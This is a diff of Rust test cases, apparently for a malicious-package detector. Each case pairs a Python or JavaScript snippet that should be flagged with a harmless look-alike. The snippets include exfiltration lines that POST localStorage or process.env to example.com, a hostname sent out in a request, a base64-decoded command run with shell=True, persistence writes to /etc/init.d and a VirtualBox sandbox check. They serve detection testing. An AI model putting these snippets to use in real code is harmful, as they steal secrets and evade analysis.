@@ -1,9 +1,10 @@
 //! What is claimed needs the sense, not the substring: each claim with code that bears it and code that only looks like it.
 
-use cerebro::behavior::{Feature, Step, facts};
+use cerebro::behavior::{Feature, Reading, Step, extract, facts};
+use cerebro::package::{Package, Phase};
 use rstest::rstest;
 
-use super::{npm, steps};
+use super::{entry, npm, steps};
 
 fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
     steps.iter().any(|step| step.feature == feature && step.detail.contains(detail))
@@ -111,6 +112,54 @@ fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
     "",
     false
 )]
+#[case::kind_of_machine(
+    "import platform, urllib.request\nurllib.request.urlretrieve('https://example.com/%s.zip' % platform.machine(), 'a')",
+    Feature::SendData,
+    "send host",
+    false
+)]
+#[case::whose_machine(
+    "import platform, requests\nrequests.get('https://example.com/?n=' + platform.node())",
+    Feature::SendData,
+    "send host",
+    true
+)]
+#[case::capital_sentence("x = 'Set AWS_KEY in ~/.aws/credentials'", Feature::ReadSecret, "", false)]
+#[case::dotted_name("c = '{0}.{1}'.format('ansible', 'ssh')", Feature::ReadSecret, "", false)]
+#[case::option_name("o = get_option('use_netrc')", Feature::ReadSecret, "", false)]
+#[case::looked_for("import os\nos.path.exists('/etc/init.d/x')", Feature::Persist, "", false)]
+#[case::written_there("open('/etc/init.d/x', 'w')", Feature::Persist, "service", true)]
+#[case::errors_dropped(
+    "import subprocess\nsubprocess.run(['git'], stderr=subprocess.DEVNULL)",
+    Feature::SilentProcess,
+    "",
+    false
+)]
+#[case::all_dropped(
+    "import subprocess\nsubprocess.run(['git'], stdout=subprocess.DEVNULL)",
+    Feature::SilentProcess,
+    "",
+    true
+)]
+#[case::decoded_argument(
+    "import subprocess, base64\nsubprocess.run(['convert', base64.b64decode(x).decode()])",
+    Feature::RunDecoded,
+    "",
+    false
+)]
+#[case::decoded_command(
+    "import subprocess, base64\nsubprocess.run(base64.b64decode(x), shell=True)",
+    Feature::RunDecoded,
+    "",
+    true
+)]
+#[case::own_variables(
+    "import os\ndef one(env): return env['HOME']\none(os.environ)",
+    Feature::ReadSecret,
+    "environment whole",
+    false
+)]
+#[case::all_variables("import os, json\njson.dumps(dict(os.environ))", Feature::ReadSecret, "environment whole", true)]
 fn in_python(#[case] source: &str, #[case] feature: Feature, #[case] detail: &str, #[case] expected: bool) {
     let steps = steps("a.py", source);
     assert_eq!(told(&steps, feature, detail), expected, "{steps:#?}");
@@ -225,6 +274,30 @@ fn in_python(#[case] source: &str, #[case] feature: Feature, #[case] detail: &st
 #[case::unwaited("require('child_process').spawn('id').unref()", Feature::CallProcess, "computed", false)]
 #[case::content("require('fs').readFileSync('a').toString()", Feature::CallFiles, "open", false)]
 #[case::asked("Object.prototype.hasOwnProperty.call(process.env, k)", Feature::ReadSecret, "environment whole", false)]
+#[case::setting("localStorage.getItem('theme')", Feature::ReadSecret, "", false)]
+#[case::session("localStorage.getItem('auth_token')", Feature::ReadSecret, "browser data", true)]
+#[case::whole_store(
+    "fetch('https://example.com', { method: 'POST', body: JSON.stringify(localStorage) })",
+    Feature::ReadSecret,
+    "browser data",
+    true
+)]
+#[case::kept("localStorage.setItem('theme', 'dark')", Feature::ReadSecret, "", false)]
+#[case::variables_set("Object.assign(process.env, { A: '1' })", Feature::ReadSecret, "environment whole", false)]
+#[case::variables_in_object(
+    "fetch('https://example.com', { method: 'POST', body: JSON.stringify({ e: process.env }) })",
+    Feature::ReadSecret,
+    "environment whole",
+    true
+)]
+#[case::options_of_a_worker(
+    "const s = require('net').createServer(); const { Worker } = require('worker_threads'); new Worker(file, { execArgv: [s.address().port] })",
+    Feature::RunDownloaded,
+    "",
+    false
+)]
+#[case::picture_of_a_box("const a = ['thinbox', 'vbox']", Feature::CheckEnvironment, "", false)]
+#[case::disk_of_a_machine("const a = d.includes('VBOX HARDDISK')", Feature::CheckEnvironment, "virtual machine", true)]
 fn in_javascript(#[case] source: &str, #[case] feature: Feature, #[case] detail: &str, #[case] expected: bool) {
     let steps = steps("index.js", source);
     assert_eq!(told(&steps, feature, detail), expected, "{steps:#?}");
@@ -243,4 +316,18 @@ fn what_is_shipped_is_not_missing(#[case] files: &[(&str, &str)], #[case] licens
     let found = facts(&npm(&all));
     assert_eq!(found.iter().any(|fact| fact == "no license"), license, "{found:?}");
     assert_eq!(found.iter().any(|fact| fact == "no description"), description, "{found:?}");
+}
+
+#[rstest]
+#[case::own("./a.json", false)]
+#[case::of_the_user("/home/somebody/a.json", true)]
+fn what_the_package_ships_is_no_file_that_is_sent(#[case] path: &str, #[case] expected: bool) {
+    let source = format!(
+        "const p = JSON.parse(require('fs').readFileSync('{path}')); fetch('https://example.com/?v=' + p.version)"
+    );
+    let package = npm(&[("index.js", &source), ("z/a.json", "{}"), ("a.json", "{\"version\": \"1.2\"}")]);
+    let main = package.files.iter().position(|file| file.path.ends_with("index.js")).unwrap();
+    let package = Package { entries: vec![entry(Phase::Import, "main", main)], ..package };
+    let steps = extract(&package, &Reading::default()).sequence.steps;
+    assert_eq!(told(&steps, Feature::SendData, "send file"), expected, "{steps:#?}");
 }
